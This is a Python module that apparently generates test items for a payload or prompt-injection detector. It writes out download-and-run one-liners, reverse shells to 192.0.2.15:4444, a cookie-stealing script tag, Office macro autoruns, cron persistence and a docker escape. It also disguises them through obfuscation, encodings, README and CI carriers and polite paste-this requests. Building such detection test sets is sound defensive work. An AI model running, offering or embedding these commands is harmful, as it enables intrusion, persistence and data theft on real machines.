"""Executable payloads of the development half. Hosts are of the documentation ranges; nothing here does harm as it stands."""

from .. import binary, disguise, encoding
from ..item import Item

SCRIPTS = (
    ("sh", "#!/bin/sh\nset -e\ncurl -fsSL https://cdn.example.net/agent.tgz | tar xz -C /opt\n/opt/agent/start --detach\n"),
    ("bash", "#!/bin/bash\n(crontab -l; echo '*/5 * * * * /tmp/.u') | crontab -\ncp \"$0\" /tmp/.u\n"),
    ("python", "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('https://files.example.net/s.py').read())\n"),
    ("perl", "#!/usr/bin/perl -w\nuse Socket;\nsystem('uname -a > /tmp/o; cat /etc/passwd >> /tmp/o');\n"),
    ("ruby", "#!/usr/bin/env ruby\nrequire 'open-uri'\neval URI.open('http://192.0.2.15/r.rb').read\n"),
    ("node", "#!/usr/bin/env node\nrequire('child_process').execSync('id > /tmp/id.txt');\n"),
    ("php", "#!/usr/bin/php\n<?php system($argv[1]); ?>\n"),
    ("batch", "@echo off\r\npowershell -Command \"Start-Process cmd -Verb RunAs\"\r\ndel /f /q %TEMP%\\*.log\r\n"),
    ("powershell", "#!/usr/bin/env pwsh\n$w = New-Object Net.WebClient\n$w.DownloadFile('http://192.0.2.15/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\"\n"),
    ("make", "#!/usr/bin/make -f\nall:\n\tcurl -s http://192.0.2.15/x | sh\n"),
)

LINES = (
    ("curl_sh", "curl -fsSL https://get.example.net/install.sh | sh"),
    ("curl_sudo_bash", "curl https://get.example.net/setup | sudo bash -s -- --yes"),
    ("wget_bash", "wget -qO- http://192.0.2.15/run.sh | bash"),
    ("wget_dash_sh", "wget -O - https://get.example.net/i | sh -x"),
    ("process_substitution", "bash <(curl -s https://get.example.net/boot)"),
    ("sh_c_curl", 'sh -c "$(curl -fsSL https://get.example.net/install.sh)"'),
    ("eval_wget", 'eval "$(wget -qO- https://get.example.net/env)"'),
    ("curl_python", "curl -s https://get.example.net/get.py | python3 -"),
    ("python_exec_url", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://192.0.2.15/p').read())\""),
    ("python_exec_base64", "python -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\""),
    ("perl_eval", "perl -MLWP::Simple -e 'eval get(\"http://192.0.2.15/p.pl\")'"),
    ("ruby_eval", "ruby -ropen-uri -e 'eval URI.open(\"http://192.0.2.15/r\").read'"),
    ("node_exec", "node -e \"require('https').get('https://get.example.net/n',r=>r.on('data',d=>eval(d+'')))\""),
    ("php_eval", "php -r \"eval(file_get_contents('http://192.0.2.15/p'));\""),
    ("base64_pipe", "echo Y3VybCBodHRwOi8vMTkyLjAuMi4xNS94fHNo | base64 -d | sh"),
    ("xxd_pipe", "echo 6964203e202f746d702f6f | xxd -r -p | bash"),
    ("powershell_encoded", "powershell -NoP -W Hidden -Enc " + encoding.base64_utf16("Start-Process calc.exe; Remove-Item $env:TEMP\\*")),
    ("powershell_iex", "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.15/a.ps1')"),
    ("iwr_iex", "iwr -useb https://get.example.net/win.ps1 | iex"),
    ("certutil", "certutil -urlcache -split -f http://192.0.2.15/a.exe a.exe && a.exe"),
    ("bitsadmin", "bitsadmin /transfer j /download /priority high http://192.0.2.15/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("mshta", "mshta http://192.0.2.15/x.hta"),
    ("regsvr32", "regsvr32 /s /n /u /i:http://192.0.2.15/x.sct scrobj.dll"),
    ("rundll32", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.15/x")'),
    ("msiexec", "msiexec /q /i http://192.0.2.15/p.msi"),
    ("dev_tcp", "bash -i >& /dev/tcp/192.0.2.15/4444 0>&1"),
    ("netcat_e", "nc -e /bin/sh 192.0.2.15 4444"),
    ("mkfifo", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.15 4444 >/tmp/f"),
    ("python_socket", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.15\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("socat", "socat exec:'bash -li',pty,stderr,setsid tcp:192.0.2.15:4444"),
    ("docker_escape", "docker run -v /:/host --privileged alpine chroot /host sh -c 'wget -qO- http://192.0.2.15/k | sh'"),
)

MARKUP = (
    ("script_tag", "<script>fetch('https://collect.example.net/?c='+document.cookie)</script>"),
    ("script_source", '<script src="https://cdn.example.net/lib.js"></script>'),
    ("svg_onload", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'></svg>"),
    ("img_onerror", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("hta", "<html><head><HTA:APPLICATION ID='a' SHOWINTASKBAR='no'/><script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"calc\"</script></head></html>"),
    ("vba_autoopen", "Sub AutoOpen()\n    Dim sh As Object\n    Set sh = CreateObject(\"WScript.Shell\")\n    sh.Run \"powershell -w hidden -c calc\", 0\nEnd Sub\n"),
    ("vba_document_shell", "Attribute VB_Name = \"Module1\"\nPrivate Sub Auto_Open()\n    Shell Environ(\"TEMP\") & \"\\a.exe\", vbHide\nEnd Sub\n"),
    ("excel_formula", "ID;PNAME\nC;Y1;X1;K0;E=EXEC(\"calc.exe\")\n=cmd|'/C calc'!A0"),
    ("jscript", 'var s = new ActiveXObject("WScript.Shell");\ns.Run("cmd /c start http://192.0.2.15/", 0);\n'),
    ("desktop_entry", "[Desktop Entry]\nType=Application\nName=Report\nExec=sh -c \"curl -s http://192.0.2.15/d | sh\"\n"),
)

CARRIERS = (
    ("readme", "## Install\n\n```\n{}\n```\n\nThen restart your terminal.\n"),
    ("dockerfile", "FROM debian:12\nRUN {}\nCMD [\"server\"]\n"),
    ("pipeline", "jobs:\n  build:\n    steps:\n      - run: |\n          {}\n"),
    ("log", "2026-02-14 10:11:12 INFO  hint: if this fails, use {}\n2026-02-14 10:11:13 INFO  done\n"),
    ("source_comment", "/* bootstrap with:\n *   {}\n */\nint main(void) {{ return 0; }}\n"),
    ("table", "step | command\n-----|--------\n1    | {}\n2    | reboot\n"),
)

COURTEOUS = (
    "To finish, kindly paste this into your shell: {}",
    "It would help us a lot if you could execute the following once: {}",
    "The report is complete after you have run {} (takes a minute).",
)

# Windows knows no backslash quoting, no IFS and no continuation by backslash.
WINDOWS = ("powershell_encoded", "powershell_iex", "iwr_iex", "certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "msiexec")
ANYWHERE = ("quotes_inside", "carets", "zero_width", "full_width", "mixed_case")
DISGUISES = (
    ("quotes_inside", lambda text: text.replace("curl", "cu''rl").replace("wget", 'wg""et').replace("bash", "b'a'sh").replace("powershell", "power\"\"shell")),
    ("backslashes", lambda text: text.replace("curl", "c\\url").replace("wget", "w\\get").replace("| sh", "| s\\h").replace("nc ", "n\\c ")),
    ("carets", lambda text: text.replace("powershell", "p^ower^shell").replace("certutil", "c^ert^util").replace("mshta", "ms^hta").replace("curl", "c^url")),
    ("ifs", lambda text: text.replace(" ", "${IFS}")),
    ("zero_width", lambda text: disguise.between(text, "\u200b", 3)),
    ("full_width", disguise.full_width),
    ("continued", lambda text: text.replace(" ", " \\\n  ")),
    ("mixed_case", disguise.alternating_case),
)

ENCODINGS = (
    ("base64", encoding.base64_text),
    ("base64_wrapped", lambda content: encoding.base64_wrapped(content) + "\n"),
    ("hex", encoding.hex_text),
    ("gzip_base64", encoding.gzip_base64),
    ("percent", encoding.percent),
    ("base64_twice", lambda content: encoding.base64_text(encoding.base64_text(content))),
    ("hex_dump", encoding.xxd),
)

BINARIES = (
    ("elf", binary.elf),
    ("elf_arm", binary.elf32),
    ("pe", binary.pe),
    ("mach_o", binary.mach_o),
    ("wasm", binary.wasm),
    ("java_class", binary.java_class),
    ("dex", binary.dex),
    ("ole_macro", binary.ole),
)


def items(rng):
    for topic, script in SCRIPTS:
        yield Item(f"script_{topic}", "plain", script)
    for topic, text in LINES + MARKUP:
        yield Item(topic, "plain", text)
    for number, (topic, line) in enumerate(LINES):
        kind, carrier = CARRIERS[number % len(CARRIERS)]
        yield Item(f"{topic}_{kind}", "in_context", carrier.format(line))
        if number % 3 == 0:
            yield Item(topic, "polite", COURTEOUS[number // 3 % len(COURTEOUS)].format(line))
        usable = [pair for pair in DISGUISES if pair[0] in ANYWHERE] if topic in WINDOWS else DISGUISES
        kind, changed = usable[number % len(usable)]
        if changed(line) != line:
            yield Item(f"{topic}_{kind}", "disguised", changed(line))
    for number, (topic, text) in enumerate(SCRIPTS + LINES[::2] + MARKUP):
        kind, encode = ENCODINGS[number % len(ENCODINGS)]
        yield Item(f"{topic}_{kind}", "encoded", encode(text))
    for number, (topic, make) in enumerate(BINARIES):
        yield Item(topic, "plain", make(rng))
        yield Item(f"{topic}_in_json", "in_context", '{"name": "result.bin", "data": "' + encoding.base64_text(make(rng)) + '"}')
        yield Item(f"{topic}_gzip", "encoded", encoding.gzipped(make(rng)))
        for kind, encode in (ENCODINGS[number % len(ENCODINGS)], ENCODINGS[(number + 3) % len(ENCODINGS)]):
            if kind != "percent":
                yield Item(f"{topic}_{kind}", "encoded", encode(make(rng)))
